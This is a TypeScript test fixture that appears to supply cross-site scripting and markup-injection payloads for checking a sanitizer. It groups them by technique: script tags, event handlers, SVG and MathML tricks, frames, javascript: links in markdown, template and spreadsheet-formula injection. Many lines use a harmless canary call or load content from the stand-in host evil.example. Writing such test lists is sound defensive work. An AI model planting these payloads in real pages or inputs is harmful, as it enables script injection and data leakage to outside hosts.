// What somebody may write into content to have a script run or a request leave. All of it is our own writing, by technique.

/** The script that must not run, and the address that must not be asked for. */
export const RUN = 'canary(1)';
export const AWAY = 'https://evil.example/x';

const scripts = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src="${AWAY}.js"></script>`, `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<script>${RUN}`, `</p><script>${RUN}</script><p>`,
  `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<template><script>${RUN}</script></template>`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<IMG SRC=x OnErRoR=${RUN}>`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`, `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`, `<marquee onstart=${RUN}>x</marquee>`,
  `<b onmouseover=${RUN}>x</b>`, `<kbd style="animation:x" onanimationstart=${RUN}>x</kbd>`, `<a href=x onclick=${RUN}>x</a>`,
  `<div onpointerrawupdate=${RUN}>x</div>`, `<select onfocus=${RUN} autofocus></select>`, `<abbr title=x\nonmouseenter=${RUN}>x</abbr>`,
];

const drawings = [
  `<svg onload=${RUN}></svg>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`, `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`, `<svg><use href="${AWAY}.svg#a"/></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
];

const frames = [
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="${AWAY}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`, `<embed src="javascript:${RUN}">`, `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`, `<link rel=stylesheet href="${AWAY}.css">`, `<style>@import "${AWAY}.css";</style>`,
  `<form action="${AWAY}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<img srcset="${AWAY}.png 1x">`,
  `<p style="background:url(${AWAY}.png)">x</p>`, `<div id=main><a id=latticeNews></a></div>`, `<img name=getElementById>`, `<form id=body></form>`,
];

const links = [
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java\tscript:${RUN})`, `[x](<java script:${RUN}>)`, `[x](&#106;avascript:${RUN})`,
  `[x](&#x6A;&#x61;vascript:${RUN})`, `[x](javascript&colon;${RUN})`, `[x](javascript&#58;${RUN})`, `[x](%6Aavascript:${RUN})`,
  `[x](\u0001javascript:${RUN})`, `[x](vbscript:${RUN})`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](blob:${AWAY})`, `[x](file:///etc/passwd)`, `[x](//evil.example/x)`, `[x](\\\\evil.example\\x)`, `<javascript:${RUN}>`, `<JAVASCRIPT:${RUN}>`,
  `[x][r]\n\n[r]: javascript:${RUN}`, `[r]\n\n[r]: <javascript:${RUN}> "t"`, `[x]: data:text/html,x\n\n[x]`, `[x](https://example.org/"onmouseover="${RUN})`,
  `[x](https://example.org/ "a\\"onmouseover=${RUN}")`, `[x](<https://example.org/"><img src=x onerror=${RUN}>>)`, `[a](#"onclick=${RUN})`,
  `[[alpha|<img src=x onerror=${RUN}>]]`, `[[alpha#"><img src=x onerror=${RUN}>|x]]`, `[@"><img src=x onerror=${RUN}>]`,
];

const pictures = [
  `![x](javascript:${RUN})`, `![x](data:image/svg+xml,<svg/onload=${RUN}>)`, `![x](${AWAY}.png)`, `![x"onerror="${RUN}](p.png)`,
  `![<img src=x onerror=${RUN}>](p.png)`, `![x](p.png "a\\"onload=\\"${RUN}")`, `![x](p.png"onerror="${RUN})`, `![x][p]\n\n[p]: ${AWAY}.png`,
];

const rest = [
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``, `\`\`\`html onmouseover=${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``, `\`\`\`js\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``, `    <script>${RUN}</script>`, `## <img src=x onerror=${RUN}>`, `## x {#"onclick=${RUN}}`, `## x {onclick=${RUN}}`, `## x {former="><script>${RUN}</script>}`,
  `x[^1]\n\n[^1]: <img src=x onerror=${RUN}>`, `x[^"onclick=${RUN}]\n\n[^"onclick=${RUN}]: y`, `|<img src=x onerror=${RUN}>|b|\n|-|-|\n|x|<svg onload=${RUN}>|`,
  `> [!NOTE]\n> <img src=x onerror=${RUN}>`, `> [!"onclick=${RUN}]\n> x`, `- [x] <img src=x onerror=${RUN}>`, `{{ hub.title }} {% include "x" %} {# x #}`,
  `{{ ["<img src=x onerror=${RUN}>"] | safe }}`, `{% raw %}<script>${RUN}</script>{% endraw %}`, `<!-- x --!><img src=x onerror=${RUN}>`, `<a title="--><img src=x onerror=${RUN}>">x</a>`,
  `&lt;img src=x onerror=${RUN}&gt; &amp;lt;script&amp;gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\<script>${RUN}</script>`, `<b>x</b><img src=x onerror=${RUN}>`,
  `a\u2028<script>${RUN}</script>`, `\uFE64script\uFE65${RUN}`, `<kbd><abbr title="</kbd><script>${RUN}</script>">x</abbr></kbd>`, `<details><summary onclick=${RUN}>x</summary></details>`,
];

/** Bodies of a page or a guide. */
export const BODIES = [...scripts, ...handlers, ...drawings, ...frames, ...links, ...pictures, ...rest];

/** Short ones that can stand in any text of a YAML file. */
export const WORDS = [
  `<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `'><svg onload=${RUN}>`, `" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`,
  `</script><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</style><img src=x onerror=${RUN}>`, `--><img src=x onerror=${RUN}>`, `\`\${${RUN}}\``, `\\"});${RUN};//`,
  `{{ 7*7 }}{% raw %}`, `&lt;img src=x onerror=${RUN}&gt;`, `javascript:${RUN}`, `=HYPERLINK("${AWAY}")`, `]]></script><!--<script>`,
];
